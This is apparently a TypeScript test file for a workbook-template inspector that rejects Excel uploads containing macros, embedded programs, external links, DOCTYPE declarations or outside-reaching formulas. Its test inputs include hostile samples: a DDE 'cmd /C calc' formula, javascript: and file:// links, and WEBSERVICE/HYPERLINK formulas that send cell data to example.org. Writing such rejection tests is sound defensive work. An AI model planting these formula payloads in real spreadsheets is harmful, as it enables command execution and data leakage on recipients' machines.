/** What is refused as a Buyer’s template, by its content and whatever it is called (3.7, 3.9). */
import ExcelJS from 'exceljs';
import { describe, expect, it, test } from 'vitest';
import { inspectTemplate } from '../../../extensions/peer-mentoring/src/workbook/template/inspect.ts';
import { BOOK, faultOf, LINKS, REL, SHEET, withFormula, withPart } from '../support/template-faults.ts';
import { RAW_PARTS } from '../support/raw-parts.ts';
import { libraryTemplate, rawTemplate, zipOf } from '../support/workbooks.ts';

const TYPES = '[Content_Types].xml';
const inTypes = (type: string) => RAW_PARTS[TYPES]!.replace('spreadsheetml.sheet.main+xml', type);

const withLink = (type: string, target: string) =>
	RAW_PARTS[LINKS]!.replace(
		'</Relationships>',
		`<Relationship Id="r9" Type="${REL}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
	);

const withSheets = (sheets: string) => RAW_PARTS[BOOK]!.replace('</sheets>', `${sheets}</sheets>`);
const withDoctype = (part: string) => part.replace('?>\n', '?>\n<!DOCTYPE x [<!ENTITY a "b">]>');

const compound = (text: string) =>
	Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(text, 'utf16le')]);

describe('a workbook', () => {
	it('of several makes is taken', async () => {
		expect(await faultOf(await rawTemplate())).toBe('taken');
		expect(await faultOf(await libraryTemplate())).toBe('taken');
	});

	it('keeps links that people follow, and formulas that lead within it', async () => {
		const link = await rawTemplate({ [LINKS]: withLink('hyperlink', 'https://www.gov.uk/') });
		const within = await rawTemplate({ [SHEET]: withFormula('HYPERLINK("#Lists!A1","Lists")') });
		expect([await faultOf(link), await faultOf(within)]).toEqual(['taken', 'taken']);
	});

	test.each<[string, Record<string, string | Buffer | undefined>, string]>([
		['with macros', { 'xl/vbaProject.bin': Buffer.from('x') }, 'macros'],
		[
			'that says it may have macros',
			{
				[TYPES]: inTypes('x').replace(
					'vnd.openxmlformats-officedocument.x',
					'vnd.ms-excel.sheet.macroEnabled.main+xml',
				),
			},
			'macros',
		],
		['with macros of Excel 4', { 'xl/macrosheets/sheet1.xml': '<x/>' }, 'macros'],
		['with buttons of its own', { 'customUI/customUI.xml': '<x/>' }, 'macros'],
		['with controls', { 'xl/activeX/activeX1.xml': '<x/>' }, 'active_content'],
		['with an embedded program', { 'xl/embeddings/oleObject1.bin': Buffer.from('MZ') }, 'active_content'],
		['with links to another workbook', { 'xl/externalLinks/externalLink1.xml': '<x/>' }, 'outside_data'],
		['with a data connection', { 'xl/connections.xml': '<x/>' }, 'outside_data'],
		['with a query', { 'xl/queryTables/queryTable1.xml': '<x/>' }, 'outside_data'],
		['with a picture from outside', { [LINKS]: withLink('image', 'http://example.org/track.png') }, 'outside_data'],
		['with a link to a script', { [LINKS]: withLink('hyperlink', 'javascript:alert(1)') }, 'outside_data'],
		['with a link to a file server', { [LINKS]: withLink('hyperlink', 'file://server/share') }, 'outside_data'],
		['with a program in it', { 'xl/media/run.exe': Buffer.from('MZ') }, 'unknown_part'],
		[
			'that is binary',
			{
				[TYPES]: RAW_PARTS[TYPES]!.replace(
					'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
					'vnd.ms-excel.sheet.binary.macroEnabled.main',
				),
			},
			'macros',
		],
		['that is a document of words', { [TYPES]: inTypes('document.main+xml') }, 'not_a_workbook'],
		['without a list of its parts', { [TYPES]: undefined }, 'not_a_workbook'],
		['with a document type', { [SHEET]: withDoctype(RAW_PARTS[SHEET]!) }, 'unsafe_xml'],
		['with a document type in its drawing', { 'xl/drawings/a.vml': '<!DOCTYPE x><xml/>' }, 'unsafe_xml'],
		['with a document type in its links', { [LINKS]: withDoctype(RAW_PARTS[LINKS]!) }, 'unsafe_xml'],
		['in another encoding', { [SHEET]: Buffer.from(`\ufeff${RAW_PARTS[SHEET]!}`, 'utf16le') }, 'broken'],
		['that says another encoding', { [SHEET]: RAW_PARTS[SHEET]!.replace('UTF-8', 'UTF-7') }, 'unsafe_xml'],
		['with a link that is no address', { [LINKS]: withPart('//[') }, 'broken'],
		['with a link of letters that are none', { [LINKS]: withPart('a%E0%A4%A.xml') }, 'broken'],
		[
			'with a sheet that is there twice',
			{ [BOOK]: withSheets('<sheet name="Again" sheetId="3" r:id="rId1"/>') },
			'broken',
		],
		['with a sheet that breaks off', { [SHEET]: RAW_PARTS[SHEET]!.slice(0, -5) }, 'broken'],
		['with rows out of order', { [SHEET]: RAW_PARTS[SHEET]!.replace('<row r="4"', '<row r="2"') }, 'broken'],
	])('%s is refused', async (_, changes, fault) => {
		expect(await faultOf(await rawTemplate(changes))).toBe(fault);
	});

	test.each([
		'HYPERLINK("http://example.org/?"&amp;A1,"x")',
		'_xlfn.WEBSERVICE("http://example.org")',
		"cmd|' /C calc'!A0",
		'[1]Sheet1!A1',
		"'C:\\[book.xlsx]Sheet1'!A1",
		'RTD("x",,"y")',
		'hyperlink ("http://example.org")',
		'HYPER&#76;INK("http://example.org")',
	])('with the formula %s is refused', async (formula) => {
		expect(await faultOf(await rawTemplate({ [SHEET]: withFormula(formula) }))).toBe('outside_formula');
	});

	it('with such a formula in a name is refused', async () => {
		const workbook = RAW_PARTS['xl/workbook.xml']!.replace('Lists!$A$1:$A$2', 'WEBSERVICE("http://example.org")');
		expect(await faultOf(await rawTemplate({ 'xl/workbook.xml': workbook }))).toBe('outside_formula');
	});
});

describe('a file that is no workbook', () => {
	test.each<[string, Buffer, string]>([
		['nothing', Buffer.alloc(0), 'empty'],
		['text', Buffer.from('NINO,Start\n'), 'not_a_workbook'],
		['an old workbook (.xls)', compound('Workbook'), 'old_or_binary'],
		['an encrypted workbook', compound('EncryptedPackage'), 'encrypted'],
		['the beginning of a ZIP file', Buffer.from('PK\x03\x04 and no more', 'latin1'), 'broken'],
	])('%s is refused', async (_, file, fault) => {
		expect(await faultOf(file)).toBe(fault);
	});

	it('another kind of ZIP file is refused', async () => {
		expect(await faultOf(await zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }))).toBe(
			'not_a_workbook',
		);
	});

	it('a workbook behind a program is refused', async () => {
		const file = Buffer.concat([Buffer.from('MZ a program'), await rawTemplate()]);
		expect(await faultOf(file)).toBe('not_a_workbook');
	});

	it('a workbook that breaks off is refused', async () => {
		const whole = await rawTemplate();
		expect(await faultOf(whole.subarray(0, whole.length - 40))).toBe('broken');
	});
});

describe('what a workbook has', () => {
	it('is found in it: sheets, formulas, merged cells, names of single cells', async () => {
		expect(await inspectTemplate(await rawTemplate())).toEqual({
			sheets: [
				{
					name: 'Tracker & more',
					merges: [{ from: { column: 1, row: 2 }, to: { column: 3, row: 2 } }],
					formulas: [[4, 1, 1], [5, 1, 1]],
					filled: [[1, 1, 4], [4, 1, 1], [5, 1, 1], [2, 3, 3], [3, 3, 3]],
				},
				{ name: 'Lists', merges: [], formulas: [], filled: [[1, 1, 2]] },
			],
			names: [{ name: 'Month', sheet: 'Tracker & more', cell: { column: 2, row: 1 } }],
		}); // prettier-ignore
	});

	it('counts a merged range with a name as the one cell that it shows', async () => {
		const book = new ExcelJS.Workbook();
		book.addWorksheet("It's").mergeCells('B2:D3');
		book.definedNames.add("'It''s'!$B$2:$D$3", 'Title');
		const file = Buffer.from((await book.xlsx.writeBuffer()) as ArrayBuffer);
		expect((await inspectTemplate(file)).names).toEqual([
			{ name: 'Title', sheet: "It's", cell: { column: 2, row: 2 } },
		]);
	});
});
